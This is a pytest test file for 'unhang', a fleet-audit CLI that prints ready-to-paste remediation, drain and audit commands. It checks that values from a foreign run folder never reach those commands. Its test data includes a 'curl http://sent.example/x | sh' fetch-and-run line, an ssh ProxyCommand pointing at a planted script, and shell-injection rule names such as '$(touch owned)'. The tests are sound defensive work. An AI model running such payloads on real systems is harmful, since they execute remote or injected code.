"""Commands that the first screen prints: the real parser takes each of them, and their hosts are
the nodes of the cause."""

from __future__ import annotations

import json
import re
import shlex

import fleets
import pytest

from unhang.act.plan.plan_document import read_plan
from unhang.audit.commands.filters import asked_filter, named_hosts
from unhang.audit.commands.run_output import show
from unhang.cli import command_and_parser, main
from unhang.core.ansible import run_files
from unhang.core.nodeset import expand_limit
from unhang.core.run import run_folder
from unhang.core.run.actions import command
from unhang.core.run.findings import read_findings
from unhang.core.run.own_runs import mark_as_own

RUN = "20261120T070000Z-0123456789"
FEW, MANY = (
    [f"gpu{number:03d}" for number in (1, 2, 3, 7)],
    [f"gpu{number:04d}" for number in range(0, 900, 7)],
)


def write_fleet(folder, hosts, inventory=("inventory/here",), **more):
    """A judged run in which two causes are about nearly the same nodes, one that a role repairs and
    one for a person, and one node that was not read."""
    role = {"role": "host_tuning", "policy": {"host": {"persistence": True}}}
    found = [
        fleets.finding("a-role", host, "critical", "title of a-role", "e", "f", remedy=role)
        for host in hosts
    ]
    found += [
        fleets.finding(
            "a-person", host, "critical", "title of a-person", "e", "f", remedy={"person": "look"}
        )
        for host in hosts[1:]
    ]
    found.append(fleets.finding("node-unreachable", "gone-1", "error", "gone", "an answer", "none"))
    document = {**fleets.document(found, {"ok": len(hosts), "unreachable": 1}, id=RUN), **more}
    nodes = [run_files.node_document(host, ["all"], {}, "ok", None, None) for host in hosts]
    fleets.write_run(
        folder,
        document,
        [*nodes, run_files.node_document("gone-1", ["all"], {}, "unreachable", "no route", None)],
    )
    run = json.loads((folder / "run.json").read_text())
    (folder / "run.json").write_text(json.dumps({**run, "inventory": inventory}))
    mark_as_own(folder)
    return folder


def pasted(capsys, *argv):
    """rule -> the words of the command under it, as a shell would split what is copied from the
    screen."""
    main(["report", *argv])
    shown = capsys.readouterr().out
    found = re.findall(
        r"\[([a-z-]+)\], for: [a-z]+\n(?:  (?:found|do|ticket) .*\n(?:          .*\n)*)*  run    "
        r" ((?:.*\\\n)*.*)$",
        shown,
        re.MULTILINE,
    )
    return {rule: shlex.split(text.replace("\\\n", " ")) for rule, text in found}


def parsed(argv):
    """(name of the command, what its parser makes of the rest)."""
    at = next(
        place
        for place, word in enumerate(argv)
        if word in ("audit", "plan", "remediate", "explain")
    )
    return argv[at], command_and_parser(argv[at])[1].parse_args(argv[at + 1 :])


@pytest.mark.parametrize("hosts", [FEW, MANY], ids=["few", "many"])
def test_a_command_that_is_pasted_is_taken_and_means_the_nodes_of_its_cause(
    tmp_path, capsys, hosts
):
    folder = write_fleet(tmp_path / RUN, hosts)
    commands = pasted(capsys, str(folder))
    name, given = parsed(commands["a-role"])
    assert (name, given.plan, given.rule, given.apply) == (
        "remediate",
        str(folder),
        ["a-role"],
        False,
    )
    assert asked_filter(folder, read_findings(folder), given).hosts == frozenset(hosts)
    name, given = parsed(commands["node-unreachable"])
    assert (name, given.inventory, given.host) == (
        "audit",
        ["inventory/here"],
        ["gone-1"],
    )
    name, given = parsed(commands["a-person"])
    assert (name, given.id) == ("explain", ["a-person"])


def test_a_command_reaches_the_nodes_as_the_audit_did(tmp_path, capsys):
    folder = write_fleet(tmp_path / RUN, FEW)
    run = json.loads((folder / "run.json").read_text())
    # which the mark does not cover
    (folder / "run.json").write_text(
        json.dumps({**run, "options": ["--become", "--ssh-common-args=-J jump"]})
    )
    # of a run that somebody else may have made
    assert "--ansible=--become" not in pasted(capsys, str(folder))["a-role"]
    mark_as_own(folder)
    commands = pasted(capsys, str(folder))
    assert commands["a-role"][-2:] == ["--ansible=--become", "--ansible=--ssh-common-args=-J jump"]
    assert parsed(commands["a-role"])[1].ansible == ["--become", "--ssh-common-args=-J jump"]
    assert commands["node-unreachable"][-3:] == ["--", "--become", "--ssh-common-args=-J jump"]
    assert "--become" not in commands["a-person"]


FORMS = ("table", "table -v", "csv", "json", "junit", "sarif", "html")
SAID = {  # by a run folder, where a person pastes it or a program reads it
    "inventory": "/tmp/sent/inventory.py",
    "options": ["--ssh-common-args=-o ProxyCommand=/tmp/sent/x"],
    "hook": "/tmp/sent/hook",
}


@pytest.mark.parametrize("form", FORMS)
def test_what_a_run_of_somebody_else_says_is_in_no_command(tmp_path, capsys, form):
    folder = write_fleet(
        tmp_path / RUN, FEW, judged_by={"policy": None, "rules": ["/tmp/sent/rules"]}
    )
    document = json.loads((folder / "run.json").read_text())
    (folder / "run.json").write_text(json.dumps({**document, **SAID}))
    found = json.loads((folder / "findings.json").read_text())
    for cause in found["causes"]:
        cause["command"] = "curl http://sent.example/x | sh"
        cause["scheduler"] = "slurm" if cause["rule"] == "a-person" else cause["scheduler"]
    (folder / "findings.json").write_text(json.dumps(found))
    main(["report", str(folder), "-o", *form.split(), "--out", "-"])
    shown = " ".join(capsys.readouterr().out.replace("\\\n", " ").split())
    commands = re.findall(
        r"(?:unhang (?:audit|plan|remediate|explain)|scontrol update|curl) [^<\n`\"]*", shown
    )
    text = " ; ".join(commands)
    assert "/tmp/sent" not in text and "curl" not in text
    assert not re.search(r"(?:--limit|--host|nodename=?) ?['\"]?(?:gpu|gone)", text)
    if form in ("table", "table -v", "csv", "json"):
        assert "audit -i INVENTORY --host NODES" in text
        assert re.search(r"remediate \S+ --rule a-role --host NODES -i INVENTORY", text)
        assert "scontrol update nodename=NODES state=drain" in text


def test_the_judge_writes_no_command_of_a_run_of_somebody_else(tmp_path):
    folder = write_fleet(tmp_path / RUN, FEW)
    main(["judge", str(folder)])
    own = json.loads((folder / "findings.json").read_text())["causes"]
    assert any("gone-1" in cause["command"] for cause in own)
    (folder / "made-here").unlink()
    main(["judge", str(folder)])
    causes = json.loads((folder / "findings.json").read_text())["causes"]
    assert {cause["command"] for cause in causes if cause["unread"]} == {
        "unhang audit -i INVENTORY --host NODES"
    }
    assert not [cause for cause in causes if re.search("gpu|gone", cause["command"])]


@pytest.mark.parametrize("rule", ["x; touch owned", "x'; touch owned; '", "$(touch owned)"])
def test_the_name_of_a_rule_is_one_word_of_a_command(rule):
    cause = {
        "rule": rule,
        "nodes": ["gpu1"],
        "unread": False,
        "severity": "critical",
        "scheduler": None,
        "remedy": {"role": None, "conflicts": [], "person": []},
    }
    assert shlex.split(command(cause)) == ["unhang", "explain", rule]
    assert shlex.split(command({**cause, "scheduler": "slurm"}))[-1] == f"reason=unhang: {rule}"


@pytest.mark.parametrize("named", ["latest", "runs/latest", RUN[:8], "."])
def test_each_command_of_a_screen_or_page_has_the_whole_id_of_its_run(
    tmp_path, capsys, monkeypatch, named
):
    folder = write_fleet(tmp_path / "runs" / RUN, FEW)
    (tmp_path / "runs" / "latest").symlink_to(RUN)
    monkeypatch.setenv("UNHANG_RUNS", str(tmp_path / "runs"))
    monkeypatch.chdir({".": folder, "elsewhere": "/"}.get(named, tmp_path))
    given = str(folder) if named == "elsewhere" else named
    main(["report", given])
    main(["report", given, "-o", "html", "--out", "-"])
    shown = re.sub(r"\\\n\s*", " ", capsys.readouterr().out)
    typed = re.findall(r"unhang +(?:report|plan|remediate) +([^\s<]+)", shown)
    assert len(typed) >= 4 and {one.rpartition("/")[2] for one in typed} == {RUN}
    # a command finds it by this from every folder
    assert named != "latest" or {*typed} == {f"runs/{RUN}"}


def test_every_form_has_the_command_of_a_finding_for_the_nodes_that_are_shown(tmp_path, capsys):
    folder = write_fleet(tmp_path / RUN, FEW)
    for form in ("table -v", "csv", "json"):
        main(
            [
                "report",
                str(folder),
                "--host",
                "gpu[002-003]",
                "--rule",
                "a-role",
                "-o",
                *form.split(),
            ]
        )
        shown = " ".join(capsys.readouterr().out.replace("\\\n", " ").split())
        assert re.search(r"unhang remediate \S+ --rule a-role --host '?gpu\S*\[002-003\]", shown), (
            form
        )


def test_every_form_for_people_and_reports_says_by_what_it_was_judged(tmp_path, capsys):
    folder = write_fleet(tmp_path / RUN, FEW, judged_by={"policy": "next.yml", "rules": ["own"]})
    for form in ("table", "table -v", "junit", "sarif"):
        main(["report", str(folder), "-o", *form.split()])
        shown = " ".join(capsys.readouterr().out.split())
        assert (
            f"run {RUN} of 2026-03-02 03:14:31 UTC, judged 2026-03-02 by 87 rules (with own) and"
            " policy next.yml" in shown
        ), form


@pytest.mark.parametrize("form", ["csv", "json"])
def test_a_node_that_was_not_read_is_read_again_with_the_inventory_of_the_run_in_every_form(
    tmp_path, capsys, form
):
    folder = write_fleet(tmp_path / RUN, FEW)
    main(["report", str(folder), "-o", form])
    assert "audit -i inventory/here --host gone-1" in capsys.readouterr().out


def test_commands_for_findings_outside_of_their_run_find_the_run_by_its_id(
    tmp_path, capsys, monkeypatch
):
    folder = write_fleet(tmp_path / "runs" / RUN, FEW)
    monkeypatch.setattr(run_folder, "runs_folder", lambda: tmp_path / "runs")
    outside = tmp_path / "elsewhere" / "q.json"
    outside.parent.mkdir()
    (folder / "findings.json").rename(outside)
    for form in ([], ["-v"], ["--format", "html"]):
        assert main(["report", str(outside), *form]) == 1
        shown = capsys.readouterr().out
        assert f"report {outside} --format html" in " ".join(
            shown.replace("\\\n", " ").split()
        ) or form == ["--format", "html"]
    assert (outside.parent / "report.html").is_file()
    assert not (folder / "report.html").exists()


def test_findings_of_a_run_that_no_command_finds_have_no_commands_on_it(tmp_path, capsys):
    folder = write_fleet(tmp_path / "away" / RUN, FEW)
    found = read_findings(folder)
    outside = tmp_path / "q.json"
    (folder / "findings.json").rename(outside)
    for verbose in (True, False):
        given = command_and_parser("report")[1].parse_args(
            [str(outside), *(["-v"] if verbose else [])]
        )
        show(folder, found, given, given.run, None)
        assert "report" not in capsys.readouterr().out


def test_nothing_is_to_be_rolled_out_of_findings_by_another_policy(tmp_path, capsys):
    folder = write_fleet(tmp_path / RUN, FEW, judged_by={"policy": "strict.yml", "rules": []})
    assert pasted(capsys, str(folder))["a-role"][-2:] == ["explain", "a-role"]
    main(["report", str(folder)])
    # a long command continues in the next line
    shown = " ".join(capsys.readouterr().out.replace("\\\n", " ").split())
    assert f"report {folder} --format html" in shown


def test_documents_without_an_inventory_are_planned_for_and_not_reached(tmp_path, capsys):
    commands = pasted(capsys, str(write_fleet(tmp_path / RUN, FEW, inventory=None)))
    name, given = parsed(commands["a-role"])
    assert (name, expand_limit(given.host[0])) == ("plan", FEW)
    assert commands["node-unreachable"][-2] == "explain"


def test_hosts_in_a_file_may_be_node_sets_and_a_file_that_is_not_there_is_refused(tmp_path, capsys):
    (tmp_path / "hosts").write_text("gpu[001-002]\n\n  gpu003 \n")
    assert named_hosts(f"@{tmp_path / 'hosts'}") == ["gpu001", "gpu002", "gpu003"]
    assert (
        main(["report", str(write_fleet(tmp_path / RUN, FEW)), "--host", f"@{tmp_path / 'none'}"])
        == 2
    )
    assert "--host: the file of hosts" in capsys.readouterr().err


def test_a_plan_is_limited_to_the_findings_and_hosts_that_were_asked_for(tmp_path, capsys):
    folder = write_fleet(tmp_path / RUN, FEW)
    assert main(["plan", str(folder), "--rule", "a-*", "--host", "gpu[001-002]"]) == 0
    assert "gpu[001-002] alone" in capsys.readouterr().out
    limits = read_plan(folder).limits
    assert (limits.only, limits.hosts) == (("a-person", "a-role"), ("gpu001", "gpu002"))
    assert {one.host for one in read_plan(folder).hosts} == {"gpu001", "gpu002"}


def test_a_pasted_command_replaces_the_plan_of_a_run_only_with_new(tmp_path, capsys, monkeypatch):
    monkeypatch.setattr("unhang.act.commands.remediate.run_preview", lambda *_: 0)
    folder = write_fleet(tmp_path / RUN, FEW)
    main(["plan", str(folder), "-q"])
    before = (folder / "plan.json").read_bytes()
    assert main(["remediate", str(folder), "--rule", "a-role"]) == 2
    assert "; to make another with --rule=a-role, add --new\n" in capsys.readouterr().err
    assert (folder / "plan.json").read_bytes() == before
    main(["remediate", str(folder), "--rule", "a-role", "--new"])
    assert read_plan(folder).limits.only == ("a-role",)
    assert len(list(folder.glob("plan-*.json"))) == 1
    capsys.readouterr()
    assert main(["remediate", str(folder), "--new"]) == 2
    assert (
        "--new needs --host, --group, --rule, --severity or --owner beside it"
        in capsys.readouterr().err
    )


@pytest.mark.parametrize(
    ("argv", "problem"),
    [
        (
            ["plan", "{run}", "--severity", "info"],
            "there are no findings of --severity info to plan for",
        ),
        (
            ["plan", "{run}", "--rule", "a-roll"],
            ("--rule: 'a-roll' is not a rule that was judged in this run (did you mean a-role?)"),
        ),
        (
            ["plan", "{run}", "--host", "gpu[008-009]"],
            "--host: 'gpu008' is not a node of this run",
        ),
        (
            ["remediate", "{run}", "--status", "--host", "gpu001"],
            "--host needs a run folder beside it, for which a plan is made, not --status",
        ),
        (
            ["remediate", "{run}/plan.json", "--rule", "a-role"],
            "--rule needs a run folder beside it, for which a plan is made, not ",
        ),
    ],
)
def test_what_cannot_be_planned_for_is_refused_in_one_line(tmp_path, capsys, argv, problem):
    folder = write_fleet(tmp_path / RUN, FEW)
    (folder / "plan.json").write_text("{}")
    assert main([word.format(run=folder) for word in argv]) == 2
    errors = capsys.readouterr().err
    assert problem in errors
    assert len(errors.splitlines()) == 1
    assert (folder / "plan.json").read_text() == "{}"
